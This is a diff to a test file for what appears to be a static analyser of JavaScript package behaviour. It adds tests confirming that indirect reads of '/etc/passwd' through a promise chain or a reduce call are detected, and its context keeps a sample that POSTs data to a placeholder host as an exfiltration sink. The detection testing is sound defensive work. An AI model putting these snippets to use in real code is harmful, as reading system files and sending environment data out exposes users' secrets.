@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 
-import { flowLines } from '../../../../test/behave.ts';
+import { behaviourOf, flowLines, lineOf } from '../../../../test/behave.ts';
 
 const SEND = `body => fetch('https://a.invalid', { method: 'POST', body })`;
 const SENT = 'process.env → fetch as content';
@@ -46,4 +46,16 @@ describe('and with nothing that others pass', () => {
     ],
   ];
   for (const [how, code] of cases) it(how, () => assert.deepEqual(flows(code), []));
+});
+
+describe('what a function is called with first is known', () => {
+  const cases: readonly (readonly [string, string])[] = [
+    ['by a promise', `Promise.resolve('/etc/passwd').then(path => require('fs').readFileSync(path));`],
+    ['by a reduction', `[path => require('fs').readFileSync(path), String].reduce((value, step) => step(value), '/etc/passwd');`],
+  ];
+  for (const [how, code] of cases)
+    it(how, () => {
+      const deeds = behaviourOf({ 'index.js': code }).effects.map(lineOf);
+      assert.ok(deeds.includes('import reads file fs.readFileSync(/etc/passwd)'), deeds.join('\n'));
+    });
 });
